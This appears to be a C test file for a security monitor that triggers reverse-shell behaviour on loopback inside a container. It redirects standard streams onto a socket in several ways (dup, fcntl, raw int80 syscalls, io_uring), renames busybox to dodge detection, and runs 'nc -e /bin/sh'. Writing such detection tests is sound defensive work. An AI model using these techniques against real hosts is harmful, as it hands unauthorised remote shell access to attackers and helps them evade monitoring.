/* SPDX-License-Identifier: Apache-2.0 */
/* A shell at the other end of a connection. Both ends are in this container: a
 * child listens on the loopback address and sends one harmless line. */
#include "attack.h"
#include "deed.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define LINE "echo arrived; echo arrived >&2; exit 0\n"

static struct sockaddr_in6 here = { .sin6_family = AF_INET6 };

static int listener(int family)
{
	struct sockaddr_in v4 = { .sin_family = AF_INET };
	socklen_t len = sizeof(here);
	int fd = socket(family, SOCK_STREAM, 0);

	v4.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	here.sin6_addr = in6addr_loopback;
	if (fd < 0 ||
	    bind(fd, family == AF_INET ? (void *)&v4 : (void *)&here,
		 family == AF_INET ? sizeof(v4) : sizeof(here)) < 0 ||
	    listen(fd, 4) < 0 || getsockname(fd, (struct sockaddr *)&here, &len) < 0)
		deed_skip("no listener: %s", strerrorname_np(errno));
	return fd;
}

/* One line to whoever runs the shell, and its answer: the proof. */
static int command(int fd)
{
	char answer[64] = "";

	if (write(fd, LINE, sizeof(LINE) - 1) < 0 || read(fd, answer, sizeof(answer) - 1) < 0)
		return errno;
	return strncmp(answer, "arrived", 7) == 0 ? 0 : EPROTO;
}

static int connection(const char *how, int family)
{
	socklen_t len = family == AF_INET ? sizeof(struct sockaddr_in) : sizeof(here);
	int fd = socket(family, SOCK_STREAM, 0);
	long ret;

	if (strcmp(how, "uring") == 0)
		ret = deed_uring_connect(fd, &here, len);
	else if (strcmp(how, "int80") == 0)
		ret = deed_int80(362 /* connect */, fd, (long)deed_low(&here, sizeof(here)), len, 0,
				 0);
	else
		ret = connect(fd, (struct sockaddr *)&here, len) < 0 ? -errno : 0;
	if (ret < 0)
		deed_fail("connect: %ld", ret);
	return fd;
}

static void put_on(const char *how, int fd)
{
	int i;

	for (i = 0; i < 3; i++) {
		if (strcmp(how, "dup") == 0) {
			close(i);
			if (dup(fd) != i)
				_exit(126);
		} else if (strcmp(how, "fcntl") == 0) {
			close(i);
			if (fcntl(fd, F_DUPFD, i) != i)
				_exit(126);
		} else if (strcmp(how, "int80") == 0) {
			if (deed_int80(63 /* dup2 */, fd, i, 0, 0, 0) != i)
				_exit(126);
		} else if (strcmp(how, "half") == 0 && i == 1) {
			continue;
		} else if (dup3(fd, i, 0) != i) {
			_exit(126);
		}
	}
}

/* HOW PROGRAM: the program reads its commands from the connection. */
static int attack_shell(char **argv)
{
	int family = strcmp(argv[0], "ipv6") == 0 ? AF_INET6 : AF_INET, fd, peer, status;
	bool inbound = strcmp(argv[0], "accept") == 0;
	int server = listener(family);
	pid_t other, shell;

	if (strcmp(argv[0], "int80") == 0)
		deed_int80_probe();
	other = fork();
	if (other == 0) {
		peer = inbound ? connection("native", family) : accept(server, NULL, NULL);
		_exit(peer < 0 ? errno : command(peer));
	}
	deed_harm(argv[0]);
	shell = fork();
	if (shell == 0) {
		fd = inbound ? accept(server, NULL, NULL) : connection(argv[0], family);
		put_on(argv[0], fd);
		if (strcmp(argv[1], "copy") == 0) {
			/* Under a name that says nothing. */
			if (system("cp /bin/busybox /tmp/worker") != 0)
				_exit(125);
			execl("/tmp/worker", "sh", NULL);
		}
		execl(argv[1], argv[1], NULL);
		_exit(127);
	}
	if (waitpid(other, &status, 0) != other)
		deed_fail("no other end");
	kill(shell, SIGKILL);
	waitpid(shell, NULL, 0);
	return deed_done(-(long)WEXITSTATUS(status));
}

/* busybox's own: nc -e, by its name. */
static int attack_netcat(char **argv)
{
	int server = listener(AF_INET), status, peer;
	char port[16];
	pid_t pid;

	(void)argv;
	snprintf(port, sizeof(port), "%u", ntohs(here.sin6_port));
	deed_harm("nc -e");
	pid = fork();
	if (pid == 0) {
		execl("/bin/nc", "nc", "127.0.0.1", port, "-e", "/bin/sh", NULL);
		_exit(127);
	}
	peer = accept(server, NULL, NULL);
	status = peer < 0 ? errno : command(peer);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return deed_done(-(long)status);
}

static const struct deed deeds[] = {
	/* dup3|dup|fcntl|half|accept|ipv6|uring|int80 PROGRAM|copy */
	{ "shell", 2, attack_shell },
	{ "netcat", 0, attack_netcat },
	{ 0 },
};
DEED_TABLE(deeds);
